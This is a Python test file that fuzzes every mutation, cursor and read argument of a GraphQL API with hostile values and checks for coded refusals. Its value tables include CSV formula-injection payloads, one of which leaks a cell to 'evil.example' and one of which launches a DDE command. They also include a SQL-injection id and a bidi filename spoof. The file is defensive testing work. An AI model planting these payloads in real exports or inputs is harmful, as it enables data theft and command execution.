"""Hostile inputs, generated from the served schema: every mutation is called with a hostile value in each
of its text, id, number, list and JSON input fields, one field at a time, the other required fields
filled with valid values (the owner's own objects for ids).

Nothing here names a mutation: a new one is covered as soon as it is in the schema. The table is
sampled, not multiplied out (`sampled`): the values are dealt over the fields of all mutations in
turn, so every field gets a hostile value, every value is used on several mutations, and every text
field gets a NUL or a lone surrogate (about one call per field: a few hundred calls, a few seconds
per database). Connections get the malformed cursors (`test_every_connection_refuses_malformed_cursors`).

What must hold for every call:
* no HTTP 5xx; an HTTP refusal (400, 413) only for the values made to cause one (JSON nested past
  ``max_json_depth``, a body past ``max_body_bytes``);
* no masked "Unexpected error.", and every top-level error carries ``extensions.code``;
* the mutation's payload ``errors`` use the documented codes;
* text no database can store (a NUL character, a lone surrogate) is refused with an error on that very
  field (``input.accounts[0].name``; a list's item is reported on the list), on SQLite and PostgreSQL.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
from graphql import (
    GraphQLEnumType,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLObjectType,
    GraphQLScalarType,
    GraphQLSchema,
    Undefined,
    get_named_type,
)

from outboundql.gql.errors import UserErrorCode
from outboundql.gql.schema import schema as served_schema
from outboundql.settings import Settings
from tests.helpers import Person
from tests.reliability.schema_calls import SCALAR_VALUES, UPLOAD_CONTENT, id_slots, node_types, upload_paths

SCHEMA: GraphQLSchema = served_schema._schema

Path = tuple[str | int, ...]

# --- the hostile table ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    label: str
    value: Any
    unstorable: bool = False  # text no database can store: must come back as an error on its field
    http_refusal: int | None = None  # the HTTP status this value must be refused with before GraphQL


def _gid(type_name: str, node_id: object) -> str:
    return base64.b64encode(f"{type_name}:{node_id}".encode("utf-8", "surrogatepass")).decode()


def _nested(levels: int) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": 1}
    for _ in range(levels - 1):
        value = {"k": value}
    return value


# Just under the body limit once quoted in a request, so it reaches the service rather than the 413.
BIG = "x" * (Settings.model_fields["max_body_bytes"].default - 20_000)
MAX_JSON_DEPTH = Settings.model_fields["max_json_depth"].default

TEXT = [
    Hostile("NUL", "Acme\x00Corp", unstorable=True),
    Hostile("lone surrogate", "Acme\ud800Corp", unstorable=True),
    Hostile("formula HYPERLINK", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    Hostile("formula +cmd", "+cmd|' /C calc'!A0"),
    Hostile("1 MB", BIG),
    Hostile("control and bidi characters", "\u202egnp.exe\u0007\t\r\n"),
    Hostile("blank", "   "),
    Hostile("astral emoji", "\U0001f600 " * 3),
]
ID_VALUES = [
    Hostile("not base64", "garbage!!"),
    Hostile("empty", ""),
    Hostile("unknown type", _gid("Nope", 1)),
    Hostile("no colon", base64.b64encode(b"Account").decode()),
    Hostile("negative pk", _gid("Account", -1)),
    Hostile("pk past bigint", _gid("Account", 10**30)),
    Hostile("non-numeric pk", _gid("Account", "1 OR 1=1")),
    Hostile("NUL in pk", _gid("Account", "1\x00")),
    Hostile("NUL", "QWNj\x00"),
    Hostile("lone surrogate in pk", _gid("Account", "1\ud800")),
    Hostile("a cursor", _gid("arrayconnection", 0)),
    Hostile("1 MB", BIG),
]
INT = [Hostile("max int32", 2**31 - 1), Hostile("min int32", -(2**31)), Hostile("-1", -1), Hostile("0", 0),
       Hostile("past int32", 2**53)]
FLOAT = [Hostile("1e308", 1e308), Hostile("-1e308", -1e308), Hostile("-1", -1.0), Hostile("tiny", 5e-324)]
DECIMAL = [Hostile("NaN", "NaN"), Hostile("Infinity", "Infinity"), Hostile("-1", "-1"), Hostile("1e400", "1e400"),
           Hostile("100 digits", "9" * 100), Hostile("not a number", "12,5"), Hostile("NUL", "1\x00")]
DATE = [Hostile("year 1", "0001-01-01"), Hostile("year 9999", "9999-12-31"), Hostile("Feb 30", "2026-02-30"),
        Hostile("not a date", "yesterday")]
DATETIME = [Hostile("year 1", "0001-01-01T00:00:00+00:00"), Hostile("year 9999", "9999-12-31T23:59:59+00:00"),
            Hostile("naive", "2026-01-01T00:00:00"), Hostile("not a time", "soon")]
JSON_VALUES = [
    Hostile("nested under the JSON limit", _nested(MAX_JSON_DEPTH - 10)),
    Hostile("nested past the JSON limit", _nested(MAX_JSON_DEPTH * 4), http_refusal=400),
    Hostile("NUL in a key", {"ti\x00er": "gold"}, unstorable=True),
    Hostile("lone surrogate in a value", {"tier": "go\udc00ld"}, unstorable=True),
    Hostile("NUL deep inside", {"a": [{"b": ["x\x00"]}]}, unstorable=True),
    Hostile("empty key", {"": 1}),
    Hostile("array", [1, 2, 3]),
    Hostile("string", "=HYPERLINK(\"http://evil.example\")"),
    Hostile("huge number", 1e308),
    Hostile("1 MB value", {"notes": BIG}),
]
LIST_VALUES = ["long list", "empty list"]
LONG_IDS = 10_001  # past every documented cap of a list of ids (10,000)
LONG_LIST = 1_001  # past every documented cap of other lists (bulk items 1000, tags 50…)
SPREAD = 4  # every 4th text field also gets one of the other text values
MAX_ANSWER = 64_000  # bytes: an answer never echoes a hostile value back in full

SCALAR_TABLE: dict[str, tuple[str, list[Hostile]]] = {
    "String": ("text", TEXT),
    "ID": ("id", ID_VALUES),
    "Int": ("number", INT),
    "Float": ("number", FLOAT),
    "Decimal": ("number", DECIMAL),
    "Date": ("date", DATE),
    "DateTime": ("date", DATETIME),
    "JSON": ("json", JSON_VALUES),
}

# --- valid values for the other fields ------------------------------------------------------------------

STRING_VALUES = {  # required strings whose neutral value would be refused before the hostile field is read
    "email": "probe@example.com",
    "goal": "sales",
    "currency": "EUR",
}


def id_takes(schema: GraphQLSchema) -> dict[str, str]:
    """The node type each id field takes, keyed like `schema_calls.ID_TYPES` (``MergeAccountsInput.targetId``,
    ``Mutation.field(arg)``): read off the names as the tenancy enumeration reads them, one rule for both."""
    return {slot.where: slot.takes for slot in id_slots(schema) if slot.takes}


# --- slots: where a hostile value goes -------------------------------------------------------------------


@dataclass(frozen=True)
class Slot:
    mutation: str
    path: Path  # from the argument: ("input", "accounts", 0, "name")
    kind: str  # text, id, number, date, json, list
    scalar: str  # the named type of the field ("String", "ID", … or the list's item type)
    node_type: str | None  # for ids: the node type the field takes, when known

    @property
    def field_path(self) -> str:
        """As `UserError.field` writes it: ``input.accounts[0].name``."""
        out = ""
        for part in self.path:
            out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else part)
        return out

    @property
    def reported_on(self) -> set[str]:
        """Where an error about this value may be reported: the field, or the list holding the item."""
        path = self.field_path
        return {path, re.sub(r"\[\d+\]$", "", path)}


def slots(schema: GraphQLSchema, mutation: str) -> list[Slot]:
    field = schema.mutation_type.fields[mutation]  # type: ignore[union-attr]
    takes = id_takes(schema)
    found: list[Slot] = []

    def walk(type_: Any, path: Path, where: str, seen: frozenset[str]) -> None:
        while isinstance(type_, GraphQLNonNull):
            type_ = type_.of_type
        if isinstance(type_, GraphQLList):
            item = get_named_type(type_)
            found.append(Slot(mutation, path, "list", item.name, takes.get(where)))
            walk(type_.of_type, (*path, 0), where, seen)
        elif isinstance(type_, GraphQLInputObjectType):
            if type_.name not in seen:
                for child, child_field in type_.fields.items():
                    walk(child_field.type, (*path, child), f"{type_.name}.{child}", seen | {type_.name})
        elif isinstance(type_, GraphQLScalarType) and type_.name in SCALAR_TABLE:
            found.append(Slot(mutation, path, SCALAR_TABLE[type_.name][0], type_.name,
                              takes.get(where) if type_.name == "ID" else None))

    for arg_name, arg in field.args.items():
        walk(arg.type, (arg_name,), f"Mutation.{mutation}({arg_name})", frozenset())
    return found


def table_of(slot: Slot) -> list[Hostile] | list[str]:
    return LIST_VALUES if slot.kind == "list" else SCALAR_TABLE[slot.scalar][1]


def sampled(all_slots: list[Slot]) -> Iterator[tuple[Slot, Hostile | str]]:
    """Deal the table over the slots of all mutations, in order, so that every slot gets a value, every
    value is used (spread over different mutations), and every text field meets an unstorable value:

    * the unstorable values (NUL, lone surrogate…) go to every slot of their table in turn;
    * the other values go round the slots: to every slot, or every `SPREAD`-th text slot (the
      unstorable ones already reach them all), and each value at least once.
    """
    tables: dict[str, list[Slot]] = {}
    for slot in all_slots:
        tables.setdefault("list" if slot.kind == "list" else slot.scalar, []).append(slot)
    for group in tables.values():
        values = table_of(group[0])
        unstorable = [v for v in values if isinstance(v, Hostile) and v.unstorable]
        others = [v for v in values if not (isinstance(v, Hostile) and v.unstorable)]
        for index, slot in enumerate(group):
            if unstorable:
                yield slot, unstorable[index % len(unstorable)]
        every = SPREAD if unstorable and group[0].kind == "text" else 1
        for index in range(max(len(others), -(-len(group) // every))):
            yield group[(index * every) % len(group)], others[index % len(others)]


# --- building a call -----------------------------------------------------------------------------------


class Builder:
    def __init__(self, schema: GraphQLSchema, own: dict[str, str]) -> None:
        self.schema = schema
        self.own = own
        self.takes = id_takes(schema)

    def document(self, mutation: str) -> str:
        field = self.schema.mutation_type.fields[mutation]  # type: ignore[union-attr]
        payload = get_named_type(field.type)
        assert isinstance(payload, GraphQLObjectType) and "errors" in payload.fields, (
            f"{mutation}: every mutation payload has `errors {{ code field message }}`")
        declared = ", ".join(f"${name}: {arg.type}" for name, arg in field.args.items())
        arguments = ", ".join(f"{name}: ${name}" for name in field.args)
        return f"mutation Hostile({declared}) {{ result: {mutation}({arguments}) {_errors_selection(payload)} }}"

    def variables(self, slot: Slot, value: Any) -> dict[str, Any]:
        field = self.schema.mutation_type.fields[slot.mutation]  # type: ignore[union-attr]
        out: dict[str, Any] = {}
        for name, arg in field.args.items():
            on_slot = slot.path[0] == name
            if on_slot or _required(arg):
                out[name] = self._fill(arg.type, slot.path[1:] if on_slot else None, value, slot,
                                       f"Mutation.{slot.mutation}({name})", name)
        return out

    def _fill(self, type_: GraphQLInputType, rest: Path | None, value: Any, slot: Slot, where: str,
              name: str) -> Any:
        """A value of ``type_``; ``rest`` is the slot's path below it (``()``: this is the slot)."""
        if isinstance(type_, GraphQLNonNull):
            return self._fill(type_.of_type, rest, value, slot, where, name)
        if rest == ():
            return value
        if isinstance(type_, GraphQLList):  # a required list: one valid item (or the slot's)
            return [self._fill(type_.of_type, rest[1:] if rest else None, value, slot, where, name)]
        if isinstance(type_, GraphQLInputObjectType):
            out: dict[str, Any] = {}
            for child, child_field in type_.fields.items():
                on_slot = rest is not None and rest[0] == child
                if on_slot or _required(child_field) or _blank_text(child_field):
                    out[child] = self._fill(child_field.type, rest[1:] if on_slot else None, value,  # type: ignore[index]
                                            slot, f"{type_.name}.{child}", child)
            return out
        if isinstance(type_, GraphQLEnumType):
            return next(iter(type_.values))
        assert isinstance(type_, GraphQLScalarType)
        if type_.name == "ID":
            node_type = self.takes.get(where)
            assert node_type is not None, (
                f"{slot.mutation}: the node type of the required id {where} is not in its name; add "
                f"'{where}': '<NodeType>' to ID_TYPES in tests.reliability.schema_calls")
            return self.own[node_type]
        if type_.name == "String":
            return STRING_VALUES.get(name, SCALAR_VALUES["String"])
        assert type_.name in SCALAR_VALUES, f"add a valid value of the scalar {type_.name} to SCALAR_VALUES"
        return SCALAR_VALUES[type_.name]

    def long_list(self, slot: Slot) -> list[Any]:
        """A list past every documented cap for ``slot``: distinct ids (one of them the owner's), or copies of
        a valid item."""
        if slot.scalar == "ID":
            node_type = slot.node_type or "Project"
            return [self.own[node_type]] + [_gid(node_type, 10**9 + i) for i in range(LONG_IDS - 1)]
        return [self.item(slot)] * LONG_LIST

    def item(self, slot: Slot) -> Any:
        """A valid item of the list at ``slot``."""
        type_ = self.schema.type_map[slot.scalar]
        if isinstance(type_, GraphQLInputObjectType):
            return self._fill(type_, None, None, slot, type_.name, "")  # its required fields
        if isinstance(type_, GraphQLEnumType):
            return next(iter(type_.values))
        return SCALAR_VALUES.get(slot.scalar, "Probe")


def _errors_selection(type_: GraphQLObjectType, depth: int = 2) -> str:
    """``errors`` of the payload and of what it holds (a bulk mutation's ``results { errors }``)."""
    parts = ["__typename"]
    for name, field in type_.fields.items():
        named = get_named_type(field.type)
        if name == "errors":
            parts.append("errors { code field message }")
        elif isinstance(named, GraphQLObjectType) and depth > 1 and "errors" in named.fields and not field.args:
            parts.append(f"{name} {_errors_selection(named, depth - 1)}")
    return "{ " + " ".join(parts) + " }"


def _all_errors(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield from value.get("errors") or []
        for key, child in value.items():
            if key != "errors":
                yield from _all_errors(child)
    elif isinstance(value, list):
        for item in value:
            yield from _all_errors(item)


def _blank_text(field: Any) -> bool:
    """A non-null text whose default is empty (``text: String! = ""``): filled, as a valid call would."""
    return (isinstance(field.type, GraphQLNonNull) and get_named_type(field.type).name == "String"
            and field.default_value == "")


def _required(arg: Any) -> bool:
    return isinstance(arg.type, GraphQLNonNull) and getattr(arg, "default_value", Undefined) is Undefined


# --- the world: one object of every node type, owned by the caller ----------------------------------------

async def _call(client: httpx.AsyncClient, person: Person, query: str, variables: dict[str, Any],
                uploads: list[str] | None = None) -> httpx.Response:
    # json.dumps escapes non-ASCII (a lone surrogate travels as \\ud800, as a browser would send it).
    operations = json.dumps({"query": query, "variables": variables})
    if uploads:  # a multipart request, a small file at each upload path
        return await client.post("/graphql", data={"operations": operations,
                                                   "map": json.dumps({str(i): [p] for i, p in enumerate(uploads)})},
                                 files={str(i): (f"hostile{i}.csv", UPLOAD_CONTENT, "text/csv")
                                        for i in range(len(uploads))},
                                 headers={**person.headers, "apollo-require-preflight": "true"})
    return await client.post("/graphql", content=operations,
                             headers={**person.headers, "content-type": "application/json"})


async def _import_job(client: httpx.AsyncClient, person: Person, project_id: str) -> str:
    """An import job's id: importAccounts takes its file as a multipart request."""
    operations = {"query": "mutation($i: ImportAccountsInput!) { importAccounts(input: $i) { importJob { id } "
                           "errors { code field message } } }",
                  "variables": {"i": {"projectId": project_id, "file": None}}}
    response = await client.post("/graphql", data={"operations": json.dumps(operations),
                                                   "map": json.dumps({"0": ["variables.i.file"]})},
                                 files={"0": ("world.csv", b"Company\nAcme\n", "text/csv")},
                                 headers={**person.headers, "apollo-require-preflight": "true"})
    return str(response.json()["data"]["importAccounts"]["importJob"]["id"])


async def _data(client: httpx.AsyncClient, person: Person, query: str, **variables: Any) -> dict[str, Any]:
    response = await _call(client, person, query, variables)
    body = response.json()
    assert response.status_code == 200 and not body.get("errors"), body
    for payload in body["data"].values():
        assert not (isinstance(payload, dict) and payload.get("errors")), payload
    return body["data"]  # type: ignore[no-any-return]


async def build_world(client: httpx.AsyncClient, owner: Person) -> dict[str, str]:
    """The owner's global id of one object of each node type, made through the API."""
    call = _data
    own: dict[str, str] = {}
    project = (await call(client, owner, "mutation($i: CreateProjectInput!) { createProject(input: $i) "
                                         "{ project { id } errors { code field message } } }",
                          i={"name": "Hostile World"}))["createProject"]["project"]
    own["Project"] = project["id"]
    own["User"] = (await call(client, owner, "{ viewer { id } }"))["viewer"]["id"]
    own["ApiToken"] = (await call(client, owner, "mutation($i: CreateApiTokenInput!) { createApiToken(input: $i) "
                                                 "{ token { id } errors { code field message } } }",
                                  i={"name": "spare"}))["createApiToken"]["token"]["id"]
    own["Product"] = (await call(client, owner, "mutation($i: CreateProductInput!) { createProduct(input: $i) "
                                                "{ product { id } errors { code field message } } }",
                                 i={"projectId": own["Project"], "name": "Widget"}))["createProduct"]["product"]["id"]
    own["Persona"] = (await call(client, owner, "mutation($i: UpsertPersonaInput!) { upsertPersona(input: $i) "
                                                "{ persona { id } errors { code field message } } }",
                                 i={"productId": own["Product"], "goal": "sales", "name": "Buyers"})
                      )["upsertPersona"]["persona"]["id"]
    account = (await call(client, owner, "mutation($i: CreateAccountInput!) { createAccount(input: $i) "
                                         "{ account { id contacts { id } } errors { code field message } } }",
                          i={"projectId": own["Project"], "name": "Acme", "domain": "acme.example",
                             "contacts": [{"name": "Ann Buyer", "email": "ann@acme.example"}]})
               )["createAccount"]["account"]
    own["Account"], own["Contact"] = account["id"], account["contacts"][0]["id"]
    own["SavedFilter"] = (await call(client, owner, "mutation($i: CreateSavedFilterInput!) { createSavedFilter("
                                                    "input: $i) { savedFilter { id } errors { code field message } } }",
                                     i={"projectId": own["Project"], "name": "All", "expression": {"all": []}})
                          )["createSavedFilter"]["savedFilter"]["id"]
    own["Market"] = (await call(client, owner, "mutation($i: CreateMarketInput!) { createMarket(input: $i) "
                                               "{ market { id } errors { code field message } } }",
                                i={"projectId": own["Project"], "name": "Iberia"}))["createMarket"]["market"]["id"]
    own["Campaign"] = (await call(client, owner, "mutation($i: CreateCampaignInput!) { createCampaign(input: $i) "
                                                 "{ campaign { id } errors { code field message } } }",
                                  i={"projectId": own["Project"], "productId": own["Product"], "name": "Camp",
                                     "goal": "sales"}))["createCampaign"]["campaign"]["id"]
    await call(client, owner, "mutation($i: AddAccountsToCampaignInput!) { addAccountsToCampaign(input: $i) "
                              "{ added errors { code field message } } }",
               i={"campaignId": own["Campaign"], "accountIds": [own["Account"]]})
    page = await call(client, owner, "query($id: ID!) { node(id: $id) { ... on Campaign { accounts(first: 1) "
                                     "{ edges { node { id } } } } } }", id=own["Campaign"])
    own["CampaignAccount"] = page["node"]["accounts"]["edges"][0]["node"]["id"]
    own["Message"] = (await call(client, owner, "mutation($i: DraftMessageInput!) { draftMessage(input: $i) "
                                                "{ message { id } errors { code field message } } }",
                                 i={"campaignAccountId": own["CampaignAccount"], "mode": "AI_DRAFT",
                                    "channel": "EMAIL"}))["draftMessage"]["message"]["id"]
    own["Expense"] = (await call(client, owner, "mutation($i: AddExpenseInput!) { addExpense(input: $i) "
                                                "{ expense { id } errors { code field message } } }",
                                 i={"campaignId": own["Campaign"], "kind": next(iter(
                                     SCHEMA.type_map["ExpenseKind"].values)),  # type: ignore[attr-defined]
                                    "amount": "10.00", "currency": "EUR"}))["addExpense"]["expense"]["id"]
    own["ScoringRun"] = (await call(client, owner, "mutation($i: ScoreCampaignInput!) { scoreCampaign(input: $i) "
                                                   "{ run { id } errors { code field message } } }",
                                    i={"campaignId": own["Campaign"]}))["scoreCampaign"]["run"]["id"]
    # An outreach attempt awaiting approval: a live ON_ADD cadence with review, admitting every row, plans the
    # campaign's row at once.
    await call(client, owner, "mutation($i: UpdateCadenceInput!) { updateCadence(input: $i) "
                              "{ errors { code field message } } }",
               i={"campaignId": own["Campaign"], "steps": [{"channel": "EMAIL"}], "executionMode": "ON_ADD",
                  "eligibility": "ALL", "manualReview": True})
    await call(client, owner, "mutation($i: CampaignExecutionInput!) { goLive(input: $i) "
                              "{ errors { code field message } } }", i={"campaignId": own["Campaign"]})
    page = await call(client, owner, "query($id: ID!) { node(id: $id) { ... on Campaign { attempts(first: 1) "
                                     "{ edges { node { id } } } } } }", id=own["Campaign"])
    own["OutreachAttempt"] = page["node"]["attempts"]["edges"][0]["node"]["id"]
    own["ImportJob"] = await _import_job(client, owner, own["Project"])
    own["WebhookEndpoint"] = (await call(client, owner, "mutation($i: CreateWebhookEndpointInput!) { "
                                                        "createWebhookEndpoint(input: $i) { endpoint { id } "
                                                        "errors { code field message } } }",
                                         i={"projectId": own["Project"], "url": "https://hooks.example/in",
                                            "events": ["campaign.updated"]}))["createWebhookEndpoint"]["endpoint"]["id"]
    await call(client, owner, "mutation($i: UpdateCampaignInput!) { updateCampaign(input: $i) "
                              "{ errors { code field message } } }", i={"id": own["Campaign"], "name": "Camp 2"})
    page = await call(client, owner, "query($id: ID!) { node(id: $id) { ... on WebhookEndpoint { deliveries(first: 1) "
                                     "{ edges { node { id } } } } } }", id=own["WebhookEndpoint"])
    own["WebhookDelivery"] = page["node"]["deliveries"]["edges"][0]["node"]["id"]
    own["ChannelConfig"] = (await call(client, owner, "mutation($i: ConfigureChannelInput!) { configureChannel(input: "
                                                      "$i) { channel { id } errors { code field message } } }",
                                       i={"projectId": own["Project"], "key": "log", "kind": "EMAIL"}
                                       ))["configureChannel"]["channel"]["id"]
    own["Suppression"] = (await call(client, owner, "mutation($i: AddSuppressionsInput!) { addSuppressions(input: "
                                                    "$i) { added { id } errors { code field message } } }",
                                     i={"projectId": own["Project"], "entries": [{"kind": "DOMAIN",
                                                                                  "value": "gone.example"}]}
                                     ))["addSuppressions"]["added"][0]["id"]
    own["Invitation"] = (await call(client, owner, "mutation($i: InviteMemberInput!) { inviteMember(input: $i) "
                                                   "{ invitation { id } errors { code field message } } }",
                                    i={"projectId": own["Project"], "email": "invitee@example.com"}
                                    ))["inviteMember"]["invitation"]["id"]
    page = await call(client, owner, "query($id: ID!) { node(id: $id) { ... on Project { auditEvents(first: 1) "
                                     "{ edges { node { id } } } } } }", id=own["Project"])
    own["AuditEvent"] = page["node"]["auditEvents"]["edges"][0]["node"]["id"]
    logged = await call(client, owner, "mutation($i: LogMessageInput!) { logMessage(input: $i) { message { signals "
                                       "{ id } } errors { code field message } } }",
                        i={"campaignAccountId": own["CampaignAccount"], "text": "We use a rival.",
                           "signals": [{"kind": "competitor", "text": "Uses a rival"}]})
    own["Signal"] = logged["logMessage"]["message"]["signals"][0]["id"]
    await call(client, owner, "mutation($i: UpdateCampaignInput!) { updateCampaign(input: $i) "
                              "{ errors { code field message } } }",
               i={"id": own["Campaign"], "audience": {"kind": "saved_filter", "savedFilterId": own["SavedFilter"]}})
    await call(client, owner, "mutation($i: SyncCampaignAudienceInput!) { syncCampaignAudience(input: $i) "
                              "{ errors { code field message } } }", i={"campaignId": own["Campaign"]})
    page = await call(client, owner, "query($id: ID!) { node(id: $id) { ... on Campaign { audienceSyncs(limit: 1) "
                                     "{ id } } } }", id=own["Campaign"])
    own["AudienceSync"] = page["node"]["audienceSyncs"][0]["id"]
    missing = set(node_types(SCHEMA)) - own.keys()
    assert not missing, f"make one object of each new node type in build_world: {sorted(missing)}"
    return own


# --- the test ------------------------------------------------------------------------------------------

CODES = {code.value for code in UserErrorCode}
MUTATIONS = sorted(SCHEMA.mutation_type.fields)  # type: ignore[union-attr]


def problems_of(slot: Slot, hostile: Hostile | str, response: httpx.Response) -> list[str]:
    """What is wrong with the answer to ``hostile`` at ``slot`` (nothing: an empty list)."""
    expected_refusal = hostile.http_refusal if isinstance(hostile, Hostile) else None
    if expected_refusal is not None or response.status_code != 200:
        if response.status_code != expected_refusal and not (response.status_code == 413 and expected_refusal):
            return [f"HTTP {response.status_code}: {response.text[:300]}"]
        return []
    body = response.json()
    found: list[str] = [f"an answer of {len(response.content)} bytes"] if len(response.content) > MAX_ANSWER else []
    for error in body.get("errors") or []:
        code = (error.get("extensions") or {}).get("code")
        if code is None or code == "INTERNAL_SERVER_ERROR" or error.get("message") == "Unexpected error.":
            found.append(f"top-level error {error}")
    user_errors = list(_all_errors((body.get("data") or {}).get("result")))
    found += [f"unknown code in {e}" for e in user_errors if e["code"] not in CODES]
    if (isinstance(hostile, Hostile) and hostile.unstorable and not body.get("errors")
            and not any(e["field"] in slot.reported_on for e in user_errors)):
        found.append(f"unstorable text accepted or reported elsewhere: {user_errors}")
    return found


async def test_hostile_values_in_every_mutation_field(client: httpx.AsyncClient, owner: Person) -> None:
    own = await build_world(client, owner)
    builder = Builder(SCHEMA, own)
    failures: list[str] = []
    calls = 0
    all_slots = [slot for mutation in MUTATIONS for slot in slots(SCHEMA, mutation)]
    for slot, hostile in sampled(all_slots):
        if isinstance(hostile, str):  # a list value
            value: Any = builder.long_list(slot) if hostile == "long list" else []
        else:
            value = hostile.value
        response = await _call(client, owner, builder.document(slot.mutation), builder.variables(slot, value),
                               upload_paths(SCHEMA.mutation_type.fields[slot.mutation]))  # type: ignore[union-attr]
        calls += 1
        label = hostile if isinstance(hostile, str) else hostile.label
        failures += [f"{slot.mutation} {slot.field_path} <- {label}: {problem}"[:400]
                     for problem in problems_of(slot, hostile, response)]
    assert calls >= len(MUTATIONS)
    assert not failures, f"{len(failures)} of {calls} hostile calls answered wrongly:\n" + "\n".join(failures)


def test_the_sample_covers_every_field_value_and_mutation() -> None:
    all_slots = [slot for mutation in MUTATIONS for slot in slots(SCHEMA, mutation)]
    assert {slot.mutation for slot in all_slots} == set(MUTATIONS), "a mutation without text, id, number or JSON"
    dealt = list(sampled(all_slots))
    assert {slot for slot, _ in dealt} == set(all_slots)  # every field gets a hostile value
    for table in [*(values for _, values in SCALAR_TABLE.values()), LIST_VALUES]:
        used = {(v.label if isinstance(v, Hostile) else v) for slot, v in dealt if table_of(slot) is table}
        offered = {(v.label if isinstance(v, Hostile) else v) for v in table}
        assert used in (set(), offered)  # a table whose type no mutation takes is unused, else all of it
    text_slots = {slot for slot in all_slots if slot.kind == "text"}
    assert text_slots == {slot for slot, v in dealt if isinstance(v, Hostile) and v.unstorable and slot.kind == "text"}
    assert len(dealt) < 2 * len(all_slots)  # bounded: about one call per field


CURSORS = [
    Hostile("not base64", "garbage!!"),
    Hostile("a node id", _gid("Project", 1)),
    Hostile("negative offset", _gid("arrayconnection", -1)),
    Hostile("offset past SQL", _gid("arrayconnection", 10**30)),
    Hostile("NUL", "YXJy\x00", unstorable=True),
    Hostile("lone surrogate", "YXJy\udfff", unstorable=True),
    Hostile("1 MB", BIG),
]


def connections(schema: GraphQLSchema) -> list[tuple[str, str]]:
    """(type, field) of every field that pages with cursors, on Query or a node type."""
    nodes = node_types(schema)
    return sorted((name, field_name) for name, type_ in schema.type_map.items()
                  if isinstance(type_, GraphQLObjectType) and (name == "Query" or name in nodes)
                  for field_name, field in type_.fields.items() if {"after", "before"} <= field.args.keys())


async def test_every_connection_refuses_malformed_cursors(client: httpx.AsyncClient, owner: Person) -> None:
    own = await build_world(client, owner)
    found = connections(SCHEMA)
    assert len(found) >= 6
    failures: list[str] = []
    for index, (type_name, field_name) in enumerate(found):
        args = SCHEMA.type_map[type_name].fields[field_name].args  # type: ignore[union-attr]
        assert not [a for a, arg in args.items() if _required(arg)], f"{type_name}.{field_name}: required arguments"
        page = f"{field_name}(first: 2, after: $after, before: $before) {{ __typename }}"
        document = (f"query Page($after: String, $before: String) {{ {page} }}" if type_name == "Query" else
                    f"query Page($id: ID!, $after: String, $before: String) "
                    f"{{ node(id: $id) {{ ... on {type_name} {{ {page} }} }} }}")
        for turn, hostile in enumerate(CURSORS):
            argument = "after" if (index + turn) % 2 else "before"
            variables = {argument: hostile.value, **({} if type_name == "Query" else {"id": own[type_name]})}
            response = await _call(client, owner, document, variables)
            errors = response.json().get("errors") if response.status_code == 200 else None
            expected = ["BAD_USER_INPUT" if hostile.unstorable else "BAD_PAGINATION"]
            if response.status_code != 200 or [e["extensions"]["code"] for e in errors or []] != expected:
                failures.append(f"{type_name}.{field_name}({argument}: {hostile.label}): {response.text[:300]}")
    assert not failures, "\n".join(failures)


def read_text_arguments(schema: GraphQLSchema) -> list[tuple[str, str, Path]]:
    """(type, field, path) of every text or JSON argument (through input objects and lists) of the fields
    of Query and of the node types: what reads take as text."""
    nodes = node_types(schema)
    found: list[tuple[str, str, Path]] = []

    def walk(type_name: str, field_name: str, type_: Any, path: Path) -> None:
        named = get_named_type(type_)
        if isinstance(named, GraphQLInputObjectType):
            for child, child_field in named.fields.items():
                walk(type_name, field_name, child_field.type, (*path, child))
        elif named.name in ("String", "JSON"):
            found.append((type_name, field_name, path))

    for type_name, type_ in sorted(schema.type_map.items()):
        if isinstance(type_, GraphQLObjectType) and (type_name == "Query" or type_name in nodes):
            for field_name, field in type_.fields.items():
                for arg_name, arg in field.args.items():
                    walk(type_name, field_name, arg.type, (arg_name,))
    return found


def _nest(type_: Any, rest: Path, value: Any) -> Any:
    """``value`` at ``rest`` inside a value of ``type_`` (lists get one item)."""
    while isinstance(type_, GraphQLNonNull):
        type_ = type_.of_type
    if isinstance(type_, GraphQLList):
        return [_nest(type_.of_type, rest, value)]
    if not rest:
        return value
    assert isinstance(type_, GraphQLInputObjectType)
    return {rest[0]: _nest(type_.fields[str(rest[0])].type, rest[1:], value)}


async def test_unstorable_text_in_any_read_argument_is_a_coded_refusal(client: httpx.AsyncClient,
                                                                       owner: Person) -> None:
    """A NUL or a lone surrogate in a slug, a search, a filter value, a goal key or a cursor of any query
    is refused with BAD_USER_INPUT (nothing stored can match it; the databases refuse to compare it)."""
    own = await build_world(client, owner)
    takes = id_takes(SCHEMA)
    found = read_text_arguments(SCHEMA)
    assert len(found) >= 10
    failures: list[str] = []
    for index, (type_name, field_name, path) in enumerate(found):
        field = SCHEMA.type_map[type_name].fields[field_name]  # type: ignore[union-attr]
        declared, arguments, variables = [], [], {}
        for arg_name, arg in field.args.items():
            if arg_name == path[0] or _required(arg):
                declared.append(f"$a_{arg_name}: {arg.type}")
                arguments.append(f"{arg_name}: $a_{arg_name}")
                named = get_named_type(arg.type).name
                if arg_name == path[0]:
                    value: Any = _nest(arg.type, path[1:], ("a\x00b", "a\udfffb")[index % 2])
                elif named == "ID":
                    value = _nest(arg.type, (), own[takes[f"{type_name}.{field_name}({arg_name})"]])
                else:
                    value = _nest(arg.type, (), STRING_VALUES.get(arg_name, SCALAR_VALUES.get(named, "Probe")))
                variables[f"a_{arg_name}"] = value
        call = f"{field_name}({', '.join(arguments)}) {{ __typename }}"
        if type_name == "Query":
            document = f"query Read({', '.join(declared)}) {{ {call} }}"
        else:
            document = (f"query Read($id: ID!, {', '.join(declared)}) "
                        f"{{ node(id: $id) {{ ... on {type_name} {{ {call} }} }} }}")
            variables["id"] = own[type_name]
        response = await _call(client, owner, document, variables)
        codes = [e.get("extensions", {}).get("code") for e in response.json().get("errors") or []]
        if response.status_code != 200 or codes != ["BAD_USER_INPUT"]:
            failures.append(f"{type_name}.{field_name}({'.'.join(map(str, path))}): {response.text[:300]}")
    assert not failures, "\n".join(failures)
